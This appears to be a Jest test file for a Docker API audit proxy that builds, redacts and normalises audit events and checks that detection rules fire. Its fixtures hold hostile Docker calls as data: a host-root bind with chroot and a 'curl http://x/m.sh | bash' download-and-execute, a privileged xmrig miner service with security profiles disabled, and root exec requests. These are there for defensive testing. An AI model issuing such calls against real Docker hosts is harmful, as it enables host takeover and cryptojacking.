import * as path from 'path';
import { compileRules, createEngine } from '../../detectors/sigma/compile-engine';
import { loadRules } from '../../detectors/sigma/loader';
import type { DockerApiEvent } from '../../schemas/generated/docker-api-event';
import { readRuleSources } from '../adapters/rule-files';
import { AvroCodec } from '../codec/avro-codec';
import type { CapturedCall } from './captured-call';
import { buildAuditEvent, createEventBuilder } from './event-builder';
import { createRedactor } from './normalize/redact';

const redactor = createRedactor(Buffer.from('event-builder-test-key-0123456789'));
const codec = new AvroCodec();
const SUBJECT = 'dockguard.docker-api-event';

const SEED_BODY =
  '{"Image":"alpine","Cmd":["chroot","/mnt","/bin/sh","-c","curl -sL4 http://x/m.sh | bash"],"HostConfig":{"Binds":["/:/mnt"]}}';
const CONTAINER_ID = '4f2a9c0e1d3b5a7c9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d';

interface CallSpec {
  method?: string;
  uri: string;
  body?: string | Buffer | null;
  bodyComplete?: boolean;
  bodyBytes?: number;
  headers?: Record<string, string>;
  status?: number | null;
  responseBody?: string | null;
  allowed?: boolean;
}

function call(s: CallSpec): CapturedCall {
  const body = s.body === undefined || s.body === null ? null : Buffer.from(s.body);
  return {
    eventId: '1b4e28ba-2fa1-11d2-883f-0016d3cca427',
    receivedAt: 1795860069000,
    collectorId: 'node-1',
    mode: 'proxy',
    hostName: 'docker-01',
    client: {
      ip: '203.0.113.7',
      port: 40126,
      tlsSubject: null,
      tlsIssuer: null,
      tlsFingerprintSha256: null,
      user: null,
    },
    request: {
      method: s.method ?? 'POST',
      uri: s.uri,
      headers: { 'User-Agent': 'Docker-Client/20.10.24 (linux)', ...(s.headers ?? {}) },
      body,
      bodyBytes: s.bodyBytes ?? body?.length ?? 0,
      bodyComplete: s.bodyComplete ?? true,
    },
    response:
      s.status === null
        ? null
        : {
            statusCode: s.status ?? 201,
            headers: {},
            body: s.responseBody === undefined || s.responseBody === null ? null : Buffer.from(s.responseBody),
          },
    decision: { allowed: s.allowed ?? true, rule: s.allowed === false ? 'deny-host-root' : null, reason: null },
  };
}

function build(s: CallSpec): DockerApiEvent {
  return buildAuditEvent(call(s), { redactor });
}

/** The event encodes with the codec, and decodes back to itself. */
function roundTrip(e: DockerApiEvent): Buffer {
  const buf = codec.encode(SUBJECT, e);
  expect(JSON.parse(JSON.stringify(codec.decode(SUBJECT, buf)))).toEqual(JSON.parse(JSON.stringify(e)));
  return buf;
}

describe('buildAuditEvent', () => {
  const seed = build({
    uri: '/v1.41/containers/create?name=c1',
    body: SEED_BODY,
    headers: { 'Content-Type': 'application/json' },
    responseBody: `{"Id":"${CONTAINER_ID}","Warnings":[]}`,
  });

  it('the seed campaign create call yields every parameter', () => {
    expect(seed).toMatchObject({
      timestamp: 1795860069000,
      event: { id: '1b4e28ba-2fa1-11d2-883f-0016d3cca427', action: 'container-create', outcome: 'success' },
      source: { ip: '203.0.113.7', port: 40126 },
      user_agent: { original: 'Docker-Client/20.10.24 (linux)' },
      http: { request: { method: 'POST', body: { bytes: SEED_BODY.length } }, response: { status_code: 201 } },
      url: { original: '/v1.41/containers/create?name=c1', path: '/containers/create', query: 'name=c1' },
      container: { id: CONTAINER_ID, name: 'c1', image: { name: 'alpine' } },
      process: {
        args: ['chroot', '/mnt', '/bin/sh', '-c', 'curl -sL4 http://x/m.sh | bash'],
        command_line: "chroot /mnt /bin/sh -c 'curl -sL4 http://x/m.sh | bash'",
      },
      dockguard: {
        endpoint: '/containers/create',
        api_version: '1.41',
        anomalies: [],
        resource_id: CONTAINER_ID,
        request: { body: SEED_BODY, body_complete: true, body_error: null, redacted: [] },
        decision: { allowed: true, rule: null, reason: null },
        container: {
          cmd: ['chroot', '/mnt', '/bin/sh', '-c', 'curl -sL4 http://x/m.sh | bash'],
          binds: ['/:/mnt'],
          privileged: false,
        },
        exec: null,
        image: null,
        query: { name: 'c1' },
      },
    });
    roundTrip(seed);
  });

  /** Names of the rule-pack detection rules an event (as a consumer decodes it) triggers. */
  const rulePack = (() => {
    const { sources } = readRuleSources([path.resolve(__dirname, '../../sigma-rules/docker')]);
    const compiled = compileRules(loadRules(sources.filter((x) => !x.file.endsWith('.test.yml'))));
    return (e: DockerApiEvent): string[] => {
      const engine = createEngine(compiled);
      const decoded = codec.decode(SUBJECT, codec.encode(SUBJECT, e));
      return engine
        .process(JSON.parse(JSON.stringify(decoded)), 0, e.timestamp)
        .flatMap((o) => (o.kind === 'detection' ? [o.rule.name ?? o.rule.id ?? '?'] : []))
        .sort();
    };
  })();

  it('the seed event triggers the rule pack: host root bind, chroot into it, download and execute', () => {
    expect(rulePack(seed)).toEqual(
      expect.arrayContaining([
        'container_chroot_host_mount',
        'container_create_host_root_bind',
        'container_download_execute',
      ]),
    );
    const benign = build({ uri: '/v1.41/containers/create?name=web', body: '{"Image":"nginx","Cmd":["nginx"]}' });
    expect(rulePack(benign)).not.toEqual(expect.arrayContaining(['container_create_host_root_bind']));
  });

  /** What must not depend on the spelling: the endpoint and every typed parameter. */
  const meaning = (e: DockerApiEvent) => ({
    endpoint: e.dockguard.endpoint,
    action: e.event.action,
    container: e.dockguard.container,
    image: e.container.image.name,
    name: e.container.name,
    args: e.process.args,
    commandLine: e.process.command_line,
  });

  it.each<[string, string, string]>([
    ['no version prefix', '/containers/create?name=c1', SEED_BODY],
    ['another version', '/v1.24/containers/create?name=c1', SEED_BODY],
    ['encoded slash', '/v1.41/containers%2Fcreate?name=c1', SEED_BODY],
    ['encoded letter', '/v1.41/%63ontainers/create?name=c1', SEED_BODY],
    ['double slash', '/v1.41//containers//create?name=c1', SEED_BODY],
    ['dot segment', '/v1.41/./containers/./create?name=c1', SEED_BODY],
    ['dot-dot segment', '/v1.41/images/../containers/create?name=c1', SEED_BODY],
    ['trailing slash', '/v1.41/containers/create/?name=c1', SEED_BODY],
    ['upper-case path', '/V1.41/CONTAINERS/Create?name=c1', SEED_BODY],
    ['encoded query', '/v1.41/containers/create?%6Eame=%63%31', SEED_BODY],
    [
      'key case',
      '/v1.41/containers/create?name=c1',
      SEED_BODY.replace('HostConfig', 'hostconfig').replace('Image', 'IMAGE'),
    ],
    [
      'duplicate keys, last wins',
      '/v1.41/containers/create?name=c1',
      '{"Image":"nginx","Cmd":["true"],"HostConfig":{"Binds":["/srv:/srv"]},' + SEED_BODY.slice(1),
    ],
    [
      '\\u escapes in keys and values',
      '/v1.41/containers/create?name=c1',
      SEED_BODY.replace('"Image":"alpine"', '"\\u0049mage":"alp\\u0069ne"').replace('"Binds"', '"\\u0042inds"'),
    ],
    ['a repeated query key (dockerd reads the first)', '/v1.41/containers/create?name=c1&name=decoy', SEED_BODY],
    ['whitespace', '/v1.41/containers/create?name=c1', ` ${JSON.stringify(JSON.parse(SEED_BODY), null, '\t')}\r\n`],
  ])('%s yields the same endpoint and parameters as the canonical request', (_name, uri, body) => {
    const e = build({ uri, body, responseBody: `{"Id":"${CONTAINER_ID}"}` });
    expect(meaning(e)).toEqual(meaning(seed));
    roundTrip(e);
    // the campaign rules fire on every spelling (rules about the spelling itself may add to them)
    expect(rulePack(e)).toEqual(expect.arrayContaining(rulePack(seed)));
  });

  it.each([
    ['/v1.41/containers/web1/./exec', '{"Cmd":["sh"],"Privileged":true,"User":"0"}'],
    ['/containers/web1/%65xec', '{"cmd":["sh"],"privileged":true,"user":"0"}'],
    ['/V1.41/CONTAINERS/web1/exec/', '{"Cmd":"sh","\\u0050rivileged":false,"Privileged":true,"User":"0"}'],
  ])('exec spelling %s reads as the canonical exec create', (uri, body) => {
    const canonical = build({
      uri: '/v1.41/containers/web1/exec',
      body: '{"Cmd":["sh"],"Privileged":true,"User":"0"}',
    });
    const e = build({ uri, body });
    expect([e.dockguard.endpoint, e.container.id, e.dockguard.exec, e.process]).toEqual([
      canonical.dockguard.endpoint,
      canonical.container.id,
      canonical.dockguard.exec,
      canonical.process,
    ]);
  });

  it.each([
    '/images/create?fromImage=evil%2Fminer&tag=latest',
    '/v1.41/images/create?fromImage=evil/miner&tag=latest&fromImage=library/alpine',
    '/v1.41//images/./create?tag=latest&fromImage=evil%2fminer',
    '/images/create?%66romImage=evil+miner&tag=latest'.replace('evil+miner', 'evil%2Fminer'),
  ])('pull spelling %s reads as the canonical pull', (uri) => {
    const e = build({ method: 'POST', uri, status: 200 });
    expect([e.dockguard.endpoint, e.container.image.name, e.dockguard.image?.from_image]).toEqual([
      '/images/create',
      'evil/miner:latest',
      'evil/miner',
    ]);
  });

  it('records the unusual spellings as anomalies', () => {
    const anomalies = (uri: string, body = SEED_BODY) => build({ uri, body }).dockguard.anomalies;
    expect(anomalies('/v1.41/containers%2Fcreate')).toContain('encoded-slash');
    expect(anomalies('/v1.41//containers/create')).toContain('double-slash');
    expect(anomalies('/v1.41/x/../containers/create')).toContain('dot-segments');
    expect(anomalies('/v1.41/containers/create?name=a&name=b')).toContain('duplicate-query-param');
    expect(anomalies('/v1.41/containers/create', '{"Image":"a","image":"b"}')).toContain('ambiguous-body-key');
    expect(anomalies('/v1.41/containers/create')).toEqual([]);
  });

  it('\\u0050rivileged, a folded key and a merged HostConfig are privileged, as dockerd reads them', () => {
    for (const body of [
      '{"Image":"a","HostConfig":{"\\u0050rivileged":true}}',
      '{"Image":"a","hostconfig":{"privileged":true}}',
      '{"Image":"a","HostConfig":{"Privileged":true},"HostConfig":{"Binds":[]}}',
      '{"Image":"a","HostConfig":{"Privileged":false},"HostConfig":{"Privileged":true}}',
    ])
      expect([body, build({ uri: '/containers/create', body }).dockguard.container?.privileged]).toEqual([body, true]);
  });

  describe('secrets never appear in the encoded event', () => {
    const SECRETS = ['hunter2-env', 'npm-token-s3cr3t', 'gh-pat-9x9x', 'swarm-join-tkn', 'c2VjcmV0LWRhdGE=', 'plugpw'];
    const calls: Array<[string, CallSpec]> = [
      [
        'container env and registry header',
        {
          uri: '/containers/create',
          body: '{"Image":"a","Env":["AWS_SECRET_ACCESS_KEY=hunter2-env"]}',
          headers: { 'X-Registry-Auth': 'eyJwYXNzd29yZCI6Imh1bnRlcjItZW52In0=' },
        },
      ],
      ['exec env', { uri: '/containers/abc/exec', body: '{"Cmd":["sh"],"env":["TOKEN=hunter2-env"]}' }],
      [
        'build args in the query (encoded and not)',
        {
          uri: '/v1.41/build?t=app&buildargs=%7B%22NPM_TOKEN%22%3A%22npm-token-s3cr3t%22%7D&buildargs={"X":"npm-token-s3cr3t"}',
          body: Buffer.from([0x1f, 0x8b, 0x08, 0x00]),
        },
      ],
      [
        'build args key in another case',
        { uri: '/build?BuildArgs=%7B%22A%22%3A%22npm-token-s3cr3t%22%7D', body: null },
      ],
      ['credentials in a remote context URL', { uri: '/build?remote=https://bob:gh-pat-9x9x@git.example/r.git' }],
      ['credentials in an absolute-form URI', { uri: 'http://bob:gh-pat-9x9x@docker:2375/v1.41/containers/json' }],
      [
        'swarm join token',
        { uri: '/swarm/join', body: '{"RemoteAddrs":["10.0.0.1:2377"],"JoinToken":"swarm-join-tkn"}' },
      ],
      ['secret payload', { uri: '/secrets/create', body: '{"Name":"db","Data":"c2VjcmV0LWRhdGE="}' }],
      ['plugin settings', { uri: '/plugins/vieux%2Fsshfs/set', body: '["DEBUG=1","PASSWORD=plugpw"]' }],
      ['auth body', { uri: '/auth', body: '{"username":"bob","password":"hunter2-env"}' }],
      [
        'service env',
        {
          uri: '/services/create',
          body: '{"Name":"s","TaskTemplate":{"ContainerSpec":{"Image":"a","Env":["K=gh-pat-9x9x"]}}}',
        },
      ],
    ];
    it.each(calls)('%s', (_name, spec) => {
      const e = build(spec);
      const buf = roundTrip(e);
      const text = buf.toString('latin1') + JSON.stringify(e);
      for (const s of SECRETS) {
        expect([s, text.includes(s)]).toEqual([s, false]);
        expect([s, text.includes(encodeURIComponent(s))]).toEqual([s, false]);
      }
      expect(e.dockguard.request.redacted.length).toBeGreaterThan(0);
    });

    it('build arg names stay visible, their values become keyed hashes', () => {
      const e = build({ uri: '/build?buildargs=%7B%22NPM_TOKEN%22%3A%22npm-token-s3cr3t%22%7D&t=app' });
      expect(e.dockguard.image?.build_arg_names).toEqual(['NPM_TOKEN']);
      expect(e.dockguard.query['buildargs']).toMatch(/^\{"NPM_TOKEN":"hmac-sha256:[0-9a-f]{32}"\}$/);
      expect(e.url.original).toMatch(
        /^\/build\?buildargs=%7B%22NPM_TOKEN%22%3A%22hmac-sha256%3A[0-9a-f]{32}%22%7D&t=app$/,
      );
      expect(e.dockguard.request.redacted).toEqual(['query.buildargs']);
    });
  });

  it('exec create: command, privileges, the container acted on and the exec id created', () => {
    const e = build({
      uri: '/v1.41/containers/web1/exec',
      body: '{"AttachStdin":true,"Tty":true,"Privileged":true,"User":"0","Cmd":["sh","-c","id"],"Env":["A=b"],"WorkingDir":"/"}',
      responseBody: '{"Id":"e0e0"}',
    });
    expect(e.event.action).toBe('container-exec');
    expect(e.dockguard.exec).toEqual({
      cmd: ['sh', '-c', 'id'],
      user: '0',
      privileged: true,
      tty: true,
      attach_stdin: true,
      env_names: ['A'],
      working_dir: '/',
    });
    expect(e.container).toEqual({ id: 'web1', name: null, image: { name: null } });
    expect(e.process).toEqual({ args: ['sh', '-c', 'id'], command_line: 'sh -c id' });
    expect(e.dockguard.resource_id).toBe('e0e0');
    const start = build({ uri: '/v1.41/exec/e0e0/start', body: '{"Detach":false}', status: 200 });
    expect([start.event.action, start.dockguard.resource_id, start.container.id]).toEqual(['exec-start', 'e0e0', null]);
  });

  it('image pull, import, push, tag, build, commit and load', () => {
    const pull = build({ uri: '/images/create?fromImage=evil%2Fminer&tag=latest&platform=linux%2Famd64', status: 200 });
    expect(pull.event.action).toBe('image-create');
    expect(pull.container.image.name).toBe('evil/miner:latest');
    expect(pull.dockguard.image).toMatchObject({ from_image: 'evil/miner', tag: 'latest', platform: 'linux/amd64' });
    const digest = build({ uri: '/images/create?fromImage=alpine&tag=sha256:' + 'a'.repeat(64) });
    expect(digest.container.image.name).toBe('alpine@sha256:' + 'a'.repeat(64));
    const imp = build({ uri: '/images/create?fromSrc=http://x/rootfs.tar&repo=ubuntu&tag=1', body: 'TARBALL' });
    expect(imp.dockguard.image).toMatchObject({ from_src: 'http://x/rootfs.tar', repo: 'ubuntu', tag: '1' });
    expect(imp.dockguard.request.body_error).toBeNull();
    const push = build({ uri: '/images/registry.example%2Fapp/push?tag=v1' });
    expect(push.dockguard.image).toMatchObject({ from_image: 'registry.example/app', tag: 'v1' });
    const tag = build({ uri: '/images/alpine/tag?repo=nginx&tag=latest' });
    expect(tag.dockguard.image).toMatchObject({ from_image: 'alpine', repo: 'nginx', tag: 'latest' });
    const b = build({ uri: '/build?t=decoy&t=nginx:latest&remote=https://git.example/x.git&dockerfile=Dockerfile.x' });
    expect(b.dockguard.image).toMatchObject({
      tag: 'decoy,nginx:latest',
      remote: 'https://git.example/x.git',
      dockerfile: 'Dockerfile.x',
    });
    const commit = build({ uri: '/commit?container=web1&repo=backdoor&tag=1', responseBody: '{"Id":"sha256:ab"}' });
    expect(commit.dockguard.image).toMatchObject({ repo: 'backdoor', tag: '1' });
    expect([commit.container.id, commit.dockguard.resource_id]).toEqual(['web1', 'sha256:ab']);
    const load = build({ uri: '/images/load?quiet=1', body: Buffer.from([0, 1, 2, 255]) });
    expect([load.dockguard.image?.from_image, load.dockguard.request.body_error]).toEqual([null, null]);
    for (const e of [pull, digest, imp, push, tag, b, commit, load]) roundTrip(e);
  });

  it('a form-encoded body is read ahead of the query, as Go ParseForm merges them', () => {
    const e = build({
      uri: '/images/create?fromImage=benign',
      body: 'fromImage=evil%2Fminer',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      status: 200,
    });
    expect(e.dockguard.image?.from_image).toBe('evil/miner');
    expect(e.dockguard.query['fromImage']).toBe('evil/miner');
    expect(e.dockguard.anomalies).toContain('form-encoded-body');
  });

  it('plugin pull records the privileges granted; upgrade takes the name from the path', () => {
    const body = '[{"Name":"network","Value":["host"]},{"Name":"mount","Value":["/var/lib/docker","/"]}]';
    const pull = build({ uri: '/plugins/pull?remote=evil%2Fplugin:1&name=sshfs', body });
    expect(pull.dockguard.plugin).toEqual({
      remote: 'evil/plugin:1',
      name: 'sshfs',
      privileges: ['network=host', 'mount=/var/lib/docker,/'],
    });
    const up = build({ uri: '/plugins/sshfs:latest/upgrade?remote=evil%2Fplugin:2', body });
    expect(up.dockguard.plugin).toMatchObject({ remote: 'evil/plugin:2', name: 'sshfs:latest' });
    const create = build({ uri: '/plugins/create?name=p1', body: Buffer.from([0x1f, 0x8b]) });
    expect(create.dockguard.plugin).toEqual({ remote: null, name: 'p1', privileges: [] });
    for (const e of [pull, up, create]) roundTrip(e);
  });

  it('service create: image, mode, command, mounts, capabilities and security options', () => {
    const e = build({
      uri: '/services/create',
      body: JSON.stringify({
        Name: 'miner',
        Mode: { Global: {} },
        TaskTemplate: {
          ContainerSpec: {
            Image: 'evil/xmrig',
            Command: ['/xmrig'],
            Args: ['-o', 'pool:3333'],
            Env: ['W=x'],
            Mounts: [{ Type: 'bind', Source: '/', Target: '/host' }],
            CapabilityAdd: ['CAP_SYS_ADMIN'],
            Privileges: { Seccomp: { Mode: 'unconfined' }, AppArmor: { Mode: 'disabled' } },
          },
        },
      }),
      responseBody: '{"ID":"svc1"}',
    });
    expect(e.dockguard.service).toEqual({
      name: 'miner',
      image: 'evil/xmrig',
      mode: 'global',
      args: ['/xmrig', '-o', 'pool:3333'],
      mounts: [{ type: 'bind', source: '/', target: '/host', read_only: false }],
      cap_add: ['CAP_SYS_ADMIN'],
      cap_drop: [],
      security_opt: ['seccomp=unconfined', 'apparmor=unconfined'],
      env_names: ['W'],
    });
    expect([e.container.image.name, e.process.args, e.dockguard.resource_id]).toEqual([
      'evil/xmrig',
      ['/xmrig', '-o', 'pool:3333'],
      'svc1',
    ]);
    const update = build({ uri: '/services/svc1/update?version=3', body: '{"Name":"m","Mode":{"ReplicatedJob":{}}}' });
    expect([update.dockguard.service?.mode, update.dockguard.resource_id]).toEqual(['replicated-job', 'svc1']);
  });

  it('volume and network create, container update', () => {
    const v = build({
      uri: '/volumes/create',
      body: '{"Name":"hostroot","Driver":"local","DriverOpts":{"type":"none","o":"bind","device":"/"}}',
    });
    expect(v.dockguard.volume).toEqual({
      name: 'hostroot',
      driver: 'local',
      driver_opt_names: ['type', 'o', 'device'],
    });
    const n = build({
      uri: '/networks/create',
      body: '{"Name":"n","Driver":"bridge","Internal":true,"Attachable":true}',
    });
    expect(n.dockguard.network).toEqual({ name: 'n', driver: 'bridge', internal: true, attachable: true });
    const u = build({
      uri: '/containers/web1/update',
      body: '{"Devices":[{"PathOnHost":"/dev/mem"}],"RestartPolicy":{"Name":"always"},"Privileged":true}',
      status: 200,
    });
    expect(u.dockguard.container).toMatchObject({
      devices: ['/dev/mem:/dev/mem'],
      restart_policy: 'always',
      privileged: false,
    });
    expect(u.container.id).toBe('web1');
    for (const e of [v, n, u]) roundTrip(e);
  });

  it('outcome follows the response; a call denied at request time failed', () => {
    const outcome = (s: Partial<CallSpec>) => build({ uri: '/containers/x/start', ...s }).event.outcome;
    expect(outcome({ status: 204 })).toBe('success');
    expect(outcome({ status: 404 })).toBe('failure');
    expect(outcome({ status: 500 })).toBe('failure');
    expect(outcome({ status: null })).toBe('unknown');
    expect(outcome({ status: null, allowed: false })).toBe('failure');
    const denied = build({ uri: '/containers/create', body: SEED_BODY, status: null, allowed: false });
    expect(denied.dockguard.decision).toEqual({ allowed: false, rule: 'deny-host-root', reason: null });
    expect([denied.container.id, denied.dockguard.resource_id]).toEqual([null, null]);
  });

  it('a body that is not JSON, too deep, incomplete or unseen is kept out and noted, never a crash', () => {
    const cases: Array<[CallSpec, RegExp]> = [
      [{ uri: '/containers/create', body: '{"Image":' }, /^not JSON/],
      [{ uri: '/containers/create', body: '\ufeff{"Image":"a"}' }, /^not JSON/],
      [{ uri: '/containers/create', body: '['.repeat(100_000) }, /nesting deeper/],
      [
        { uri: '/containers/create', body: SEED_BODY.slice(0, 30), bodyComplete: false, bodyBytes: 2_000_000 },
        /^incomplete/,
      ],
      [{ uri: '/containers/create', body: null, bodyComplete: false, bodyBytes: 1_100_198 }, /^not seen/],
      [{ uri: '/containers/create', body: Buffer.from([0xff, 0xfe, 0x00]) }, /^not JSON/],
    ];
    for (const [spec, error] of cases) {
      const e = build(spec);
      expect(e.dockguard.request.body).toBeNull();
      expect(e.dockguard.request.body_error).toMatch(error);
      expect(e.dockguard.container).toBeNull();
      expect(e.dockguard.endpoint).toBe('/containers/create');
      roundTrip(e);
    }
    // past maxBodyChars the text goes, the typed parameters stay (within the event budget)
    const big = buildAuditEvent(
      call({ uri: '/containers/create', body: `{"Image":"a","Cmd":["${'x'.repeat(300_000)}"]}` }),
      { redactor, maxEventChars: 4_000_000 },
    );
    expect([big.dockguard.request.body, big.dockguard.container?.cmd[0]?.length]).toEqual([null, 300_000]);
    expect(big.dockguard.request.body_error).toMatch(/too large/);
  });

  it('an event stays under its size budget however large the call (an event Kafka refuses is a call nobody audits)', () => {
    const budget = 512 * 1024;
    const huge = 'A'.repeat(900_000);
    const cases: Array<[string, CallSpec]> = [
      [
        'a 900 KB command',
        {
          uri: '/containers/create',
          body: `{"Image":"a","Cmd":["sh","-c","${huge}; curl x|sh"],"HostConfig":{"Privileged":true}}`,
        },
      ],
      [
        '100,000 binds',
        {
          uri: '/containers/create',
          body: JSON.stringify({
            Image: 'a',
            HostConfig: { Privileged: true, Binds: Array.from({ length: 100_000 }, (_, i) => `/d${i}:/d${i}`) },
          }),
        },
      ],
      [
        'a 900 KB query',
        { uri: `/containers/create?name=c1&filters=${huge}`, body: '{"Image":"a","HostConfig":{"Privileged":true}}' },
      ],
      [
        'a 900 KB user agent',
        {
          uri: '/containers/create',
          body: '{"Image":"a","HostConfig":{"Privileged":true}}',
          headers: { 'User-Agent': huge },
        },
      ],
      [
        '20,000 query parameters',
        {
          uri: '/containers/create?' + Array.from({ length: 20_000 }, (_, i) => `k${i}=${'v'.repeat(40)}`).join('&'),
          body: '{"Image":"a","HostConfig":{"Privileged":true}}',
        },
      ],
    ];
    for (const [name, spec] of cases) {
      const e = build(spec);
      const json = JSON.stringify(e).length;
      expect([name, json <= budget]).toEqual([name, true]);
      expect([name, e.dockguard.anomalies]).toEqual([name, expect.arrayContaining(['event-truncated'])]);
      // what matters to a rule survives: the endpoint, the flag, the ids
      expect([name, e.dockguard.endpoint, e.dockguard.container?.privileged, e.event.id]).toEqual([
        name,
        '/containers/create',
        true,
        '1b4e28ba-2fa1-11d2-883f-0016d3cca427',
      ]);
      expect(codec.encode(SUBJECT, e).length).toBeLessThan(budget);
    }
    // head and tail of a long command both stay visible
    const cmd = build(cases[0]![1]).process.command_line ?? '';
    expect(cmd).toMatch(/^sh -c 'AAAA.*characters cut.*; curl x\|sh'$/);
    // a small call is not measured, nor changed
    expect(build({ uri: '/containers/create', body: SEED_BODY }).dockguard.anomalies).toEqual([]);
  });

  it('an unknown endpoint is recorded with its normalised path', () => {
    const e = build({ method: 'get', uri: '/v1.41/../../etc/passwd?x=%zz', status: 404 });
    expect(e.event.action).toBe('unknown');
    expect(e.dockguard.endpoint).toBe('/etc/passwd');
    expect(e.dockguard.anomalies).toEqual(expect.arrayContaining(['unknown-endpoint', 'traversal-above-root']));
    roundTrip(e);
  });

  it('is deterministic: the same call gives the same event', () => {
    const spec: CallSpec = { uri: '/v1.41/containers/create?name=c1', body: SEED_BODY };
    expect(build(spec)).toEqual(build(spec));
  });

  describe('every event it builds encodes with the codec (generated calls, garbage included)', () => {
    let x = 20261128;
    // Math.imul keeps the LCG exact (a float product would lose the low bits and cycle)
    const rnd = (n: number): number => ((x = (Math.imul(x, 1103515245) + 12345) & 0x7fffffff), (x >>> 8) % n);
    const pick = <T>(a: readonly T[]): T => a[rnd(a.length)] as T;
    const garbage = (n: number): string =>
      Array.from({ length: rnd(n) }, () =>
        pick([
          'a',
          '/',
          '%',
          '%2F',
          '%zz',
          '?',
          '&',
          '=',
          '..',
          '.',
          '\u0000',
          'é',
          '\ud83d',
          '😀',
          '{',
          '"',
          '\\',
          ' ',
        ]),
      ).join('');
    const endpoints = [
      '/containers/create',
      '/containers/c1/exec',
      '/containers/c1/update',
      '/images/create',
      '/images/a%2Fb/push',
      '/images/a/tag',
      '/build',
      '/commit',
      '/images/load',
      '/plugins/pull',
      '/plugins/p/upgrade',
      '/plugins/create',
      '/services/create',
      '/services/s1/update',
      '/volumes/create',
      '/networks/create',
      '/secrets/create',
      '/plugins/p/set',
      '/exec/e1/start',
    ];
    const jsonValue = (d: number): unknown => {
      const k = rnd(d > 3 ? 5 : 8);
      if (k === 0) return rnd(2) ? rnd(1e6) : -1.5e300;
      if (k === 1) return garbage(8);
      if (k === 2) return pick([true, false, null]);
      if (k === 3) return pick(['host', '/', 'SYS_ADMIN', 'A=b', 'unconfined']);
      if (k === 4) return rnd(1000);
      if (k === 5) return Array.from({ length: rnd(4) }, () => jsonValue(d + 1));
      const keys = ['Image', 'Cmd', 'HostConfig', 'Binds', 'Privileged', 'Env', 'Mounts', 'Name', 'TaskTemplate'];
      const moreKeys = [...keys, 'ContainerSpec', 'Mode', 'Value', 'Data', 'Labels', 'Devices', 'Id', '__proto__'];
      return Object.fromEntries(Array.from({ length: rnd(5) }, () => [pick(moreKeys), jsonValue(d + 1)]));
    };
    const body = (): string | Buffer | null => {
      switch (rnd(5)) {
        case 0:
          return null;
        case 1:
          return Buffer.from(Array.from({ length: rnd(40) }, () => rnd(256)));
        case 2:
          return garbage(30);
        default:
          return JSON.stringify(jsonValue(0));
      }
    };
    const SECRET = 'planted-s3cret-value';
    it('1,000 generated calls, none of which leaks a planted secret', () => {
      let typed = 0;
      for (let i = 0; i < 1000; i++) {
        const ep = pick(endpoints);
        const uri =
          rnd(4) === 0
            ? garbage(40)
            : `${pick(['', '/v1.41', '/V1.4', '//v1.41/.'])}${ep}${rnd(2) ? '' : '?' + garbage(20)}`;
        const spec: CallSpec = {
          method: pick(['POST', 'GET', 'post', 'DELETE', garbage(5)]),
          uri,
          body: body(),
          bodyComplete: rnd(5) !== 0,
          headers: rnd(6) === 0 ? { 'Content-Type': 'application/x-www-form-urlencoded' } : {},
          status: pick([null, 200, 201, 404, 500, 70000, -1]),
          responseBody: pick([null, '{"Id":"abc"}', '{"ID":5}', garbage(10), '{"Id":"' + 'x'.repeat(300) + '"}']),
          allowed: rnd(3) !== 0,
        };
        // a secret planted where the redactor must find it, whatever else the call holds (a JSON
        // body's Env; a form-encoded body is query parameters, where only build args are secret)
        const planted = rnd(3);
        const json = spec.headers?.['Content-Type'] === undefined;
        if (planted === 0 && json && typeof spec.body === 'string' && spec.body.startsWith('{'))
          spec.body = `{"Env":["K=${SECRET}"],` + spec.body.slice(1);
        if (planted === 1) spec.uri += `${spec.uri.includes('?') ? '&' : '?'}buildargs=%7B%22A%22%3A%22${SECRET}%22%7D`;
        const c = call(spec);
        if (rnd(10) === 0) c.client.port = pick([Number.NaN, 70000, 1.5]);
        if (rnd(10) === 0) c.receivedAt = pick([1.5, Number.POSITIVE_INFINITY, 2 ** 60]);
        let e: DockerApiEvent;
        try {
          e = buildAuditEvent(c, { redactor });
        } catch (err) {
          throw new Error(`buildAuditEvent threw on ${JSON.stringify(spec)}: ${String(err)}`);
        }
        const buf = codec.encode(SUBJECT, e);
        expect(codec.decode(SUBJECT, buf)).toBeDefined();
        if (buf.includes(SECRET)) throw new Error(`secret in the event of ${JSON.stringify(spec)}`);
        if (e.dockguard.container || e.dockguard.exec || e.dockguard.service || e.dockguard.image) typed++;
      }
      // the generator reaches the typed extractors, not only the error paths
      expect(typed).toBeGreaterThan(100);
    });
  });

  it('createEventBuilder parses a request once for the policy event and the final one, with the same result as building anew', () => {
    const build = createEventBuilder({ redactor });
    const specs: CallSpec[] = [
      { uri: '/v1.41/containers/create?name=x', body: SEED_BODY, responseBody: `{"Id":"${CONTAINER_ID}"}` },
      { uri: '/v1.41/images/create?fromImage=alpine&tag=latest', status: 200, responseBody: null },
      { uri: '/v1.41/containers/create', body: 'not json', status: 400, responseBody: null, allowed: false },
    ];
    for (const spec of specs) {
      const final = call(spec);
      // the policy sees the request before the daemon answered
      const early: CapturedCall = { ...final, response: null, decision: { allowed: true, rule: null, reason: null } };
      const e1 = build(early);
      const e2 = build(final);
      expect(e1).toEqual(buildAuditEvent(early, { redactor }));
      expect(e2).toEqual(buildAuditEvent(final, { redactor }));
      // one parse: the request-derived parts are the same objects
      expect(e2.dockguard.query).toBe(e1.dockguard.query);
      // a replaced request (the collectors replace, never change, it) is parsed again
      const e3 = build({ ...final, request: { ...final.request } });
      expect(e3).toEqual(e2);
      expect(e3.dockguard.query).not.toBe(e2.dockguard.query);
    }
  });
});
